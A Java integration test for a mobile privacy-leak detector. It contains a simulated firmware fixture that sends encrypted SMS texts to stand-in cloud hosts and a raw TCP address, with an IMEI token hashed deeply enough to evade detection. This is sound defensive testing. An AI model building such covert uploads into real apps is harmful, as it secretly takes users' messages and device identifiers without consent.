package io.phonehome.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.testng.annotations.Test;

/**
 * Differential runs on virtual handsets through the launcher: a build that uploads every
 * text encrypted under a key of its own (no transform reveals it), through the proxy and
 * on a socket of its own around it, is caught because the uploads' size follows the
 * text; a clean build gives no opaque finding. The second run of each persona runs under
 * a second identity, read back from the phone, and the phone reports its first identity
 * again afterwards; a token derived from the IMEI beyond the detector's reach, constant
 * within each run, is reported because its content follows the switch.
 */
public class DifferentialRunIT {
  /** Uploads each text AES-GCM-encrypted under the build's key, whatever the switches say. */
  private static final String VAULT = """
      build:
        display-id: VELA-2.1.0
        fingerprint: Vela/orca/orca:10/QP1A.191005.007/210:user/release-keys
      settings:
        secure:vela_relay: 0
      privacy-switches:
        Relay texts through Vela: secure:vela_relay
      services:
        - name: heartbeat
          on: every:2s
          method: POST
          url: https://hb.vela-cloud.test/v1/beat
          route: proxy
          tls: trusts-user-ca
          headers: { Content-Type: application/octet-stream }
          body: "{imei|encrypt}"
        - name: device-token
          on: every:2s
          method: POST
          url: https://id.vela-cloud.test/v1/token
          route: proxy
          tls: trusts-user-ca
          headers: { Content-Type: application/x-www-form-urlencoded }
          body: "t={imei|md5|sha1|md5|sha1}"
        - name: update-check
          on: every:3s
          method: GET
          url: https://ota.vela.test/check?build=2.1.0
          route: proxy
          tls: trusts-user-ca
        - name: message-vault
          on: sms-sent
          method: POST
          url: https://vault.vela-cloud.test/v2/msg?k=2
          route: proxy
          tls: trusts-user-ca
          headers: { Content-Type: application/x-www-form-urlencoded }
          body: "m={sms.body|encrypt|base64}"
        - name: mirror
          on: sms-sent
          url: tcp://203.0.113.7:5222
          body: "MSG {sms.body|encrypt|hex}\n"
        - name: relay
          on: sms-sent
          when: "secure:vela_relay == 1"
          method: POST
          url: https://relay.vela-msg.test/v1/send
          route: proxy
          tls: trusts-user-ca
          headers: { Content-Type: application/x-www-form-urlencoded }
          body: "b={sms.body|base64}"
      """;

  @Test
  public void an_encrypted_sms_upload_is_reported_as_opaque_and_a_clean_build_gives_none() throws Exception {
    Path root = HarnessProcess.root();
    Path dir = Files.createTempDirectory("phonehome-differential");
    Files.writeString(dir.resolve("vela-vault.yaml"), VAULT);
    Files.writeString(dir.resolve("sms.xml"), """
        <!DOCTYPE suite SYSTEM "https://testng.org/testng-1.0.dtd">
        <suite name="sms-differential" verbose="0">
          <listeners><listener class-name="io.phonehome.scenario.PhonehomeListener"/></listeners>
          <test name="sms-send"><classes><class name="io.phonehome.scenario.SmsSendTest"/></classes></test>
        </suite>
        """);
    Files.writeString(dir.resolve("devices.yaml"), String.format("""
        lab: { proxy-host: 127.0.0.1, mode: sinkhole, observe: 4s }
        devices:
          - name: vela-vault
            identity: { imei: "490154203237518", wifi-mac: "02:1a:11:f0:0d:42", phone-number: "+886911222333" }
            virtual: { firmware: vela-vault.yaml }
          - name: nimbus-clean
            identity: { imei: "356938035643809", wifi-mac: "3c:28:6d:aa:bb:cc", phone-number: "+886987654321" }
            consent-policy: %s
            virtual: { firmware: %s }
        """, root.resolve("policies/clean.yaml"), root.resolve("simulator/firmware/clean.yaml")));
    Path out = dir.resolve("out");
    HarnessProcess.Result run = HarnessProcess.run(600, "run", "--devices", dir.resolve("devices.yaml").toString(),
        "--suite", dir.resolve("sms.xml").toString(), "--out", out.toString());

    assertThat(run.exitCode()).as(run.output()).isEqualTo(1);
    JsonNode findings = NightlySuiteIT.validFindings(out.resolve("findings.json"));
    List<String> opaque = new ArrayList<>();
    for (JsonNode f : findings.path("findings")) {
      if (f.path("encoding").asText().equals("opaque") && !f.path("identifier").asText().equals("unknown")) {
        opaque.add(f.path("device").asText() + " " + f.path("test").asText() + " " + f.path("identifier").asText()
            + " " + f.path("channel").asText() + " " + f.path("host").asText() + " " + f.path("location").asText()
            + " " + f.path("verdict").asText());
      }
    }
    // the encrypted text through the proxy and around it, in both personas; the base64
    // relay is the detector's, not reported again; the token, four hashes deep (beyond
    // the detector's three), keeps its size but follows the switched IMEI
    assertThat(opaque).containsExactlyInAnyOrder(
        "vela-vault SmsSendTest.declined sms.body proxy vault.vela-cloud.test body unconsented",
        "vela-vault SmsSendTest.accepted sms.body proxy vault.vela-cloud.test body unconsented",
        "vela-vault SmsSendTest.declined sms.body direct 203.0.113.7 body unconsented",
        "vela-vault SmsSendTest.accepted sms.body direct 203.0.113.7 body unconsented",
        "vela-vault SmsSendTest.declined imei proxy id.vela-cloud.test body unconsented",
        "vela-vault SmsSendTest.accepted imei proxy id.vela-cloud.test body unconsented");
    assertThat(findings.path("findings")).anySatisfy(f -> {
      assertThat(f.path("host").asText()).isEqualTo("relay.vela-msg.test");
      assertThat(f.path("encoding").asText()).isEqualTo("base64");
    });
    assertThat(findings.path("findings")).filteredOn(f -> f.path("encoding").asText().equals("opaque"))
        .allSatisfy(f -> assertThat(f.path("detail").asText()).contains(
            f.path("host").asText().equals("id.vela-cloud.test") ? "content follows the planted identity/values"
                : "size follows sms.body"));
    assertThat(run.output()).contains(
        "[nimbus-clean] differential (declined): no upload follows the planted values",
        "[nimbus-clean] differential (accepted): no upload follows the planted values",
        "[vela-vault] differential (declined): 3 opaque finding(s), 3 unconsented: ",
        "[nimbus-clean] verdict after the second SMS (accepted): PASSED");
    assertThat(HarnessProcess.mitmdumpsUnder(dir)).isEmpty();
    assertIdentitySwitchedAndBack(run.output(), out.resolve("devices/vela-vault"));
  }

  /** Each persona's second run had another IMEI, as the phone reported it, and the first came back. */
  private static void assertIdentitySwitchedAndBack(String output, Path evidence) throws Exception {
    String first = "490154203237518";
    java.util.regex.Matcher switched = java.util.regex.Pattern.compile(
        "\\[vela-vault] identity switched for the second run: imei " + first + " -> ([0-9]{15}),").matcher(output);
    List<String> secondImeis = new ArrayList<>();
    while (switched.find()) {
      secondImeis.add(switched.group(1));
    }
    assertThat(secondImeis).as(output).hasSize(2);
    for (String second : secondImeis) {
      assertThat(second).isNotEqualTo(first).startsWith(first.substring(0, 8));
    }
    assertThat(output.split("\\[vela-vault] identity switched back: imei " + first + ",", -1)).hasSize(3);
    for (String persona : List.of("declined", "accepted")) {
      assertThat(Files.readString(evidence.resolve("identity-second-run-" + persona + ".txt")))
          .containsPattern("imei +" + secondImeis.get(0) + " +phone, second-identity")
          .doesNotContain(first);
      assertThat(Files.readString(evidence.resolve("identity-restored-" + persona + ".txt")))
          .startsWith("imei " + first + ",");
    }
    assertThat(Files.readString(evidence.resolve("identity.txt"))).contains(first);
  }
}
